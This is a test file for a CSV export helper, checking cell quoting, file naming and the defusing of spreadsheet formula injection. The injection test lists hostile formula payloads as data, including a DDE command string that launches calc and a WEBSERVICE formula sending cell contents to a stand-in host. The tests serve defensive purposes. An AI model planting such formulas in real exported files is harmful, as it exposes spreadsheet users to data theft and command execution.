import { exportFileName, toCsv } from './export-file';

it('quotes every cell, doubles quotes and keeps commas and line breaks inside their cell', () => {
  const csv = toCsv(
    [
      { header: 'Name', value: (row: { name: string; note: string | null }) => row.name },
      { header: 'Note', value: (row) => row.note },
    ],
    [
      { name: 'Riya "RK" Kapoor', note: 'Hello, world\nbye' },
      { name: 'Sam', note: null },
    ],
  );
  expect(csv).toBe('"Name","Note"\r\n"Riya ""RK"" Kapoor","Hello, world\nbye"\r\n"Sam",""\r\n');
});

it('defuses every cell a spreadsheet would run as a formula (OWASP), numbers with a sign too', () => {
  const payloads = [
    '=HYPERLINK("x")',
    "-2+3+cmd|' /C calc'!A0",
    '+1+WEBSERVICE("http://evil.example/?"&A1)',
    '@cmd',
    '\t=1+1',
    '+91 98765 43210',
  ];
  const csv = toCsv([{ header: 'V', value: (row: string) => row }], [...payloads, 'Riya']);
  expect(csv.split('\r\n').slice(1, -1)).toEqual([
    '"\'=HYPERLINK(""x"")"',
    "\"'-2+3+cmd|' /C calc'!A0\"",
    '"\'+1+WEBSERVICE(""http://evil.example/?""&A1)"',
    '"\'@cmd"',
    '"\'\t=1+1"',
    '"\'+91 98765 43210"',
    '"Riya"',
  ]);
});

it('names the file by prefix and ISO date', () => {
  expect(exportFileName('contacts', 'json', new Date('2026-11-23T18:00:00Z'))).toBe('contacts-2026-11-23.json');
});
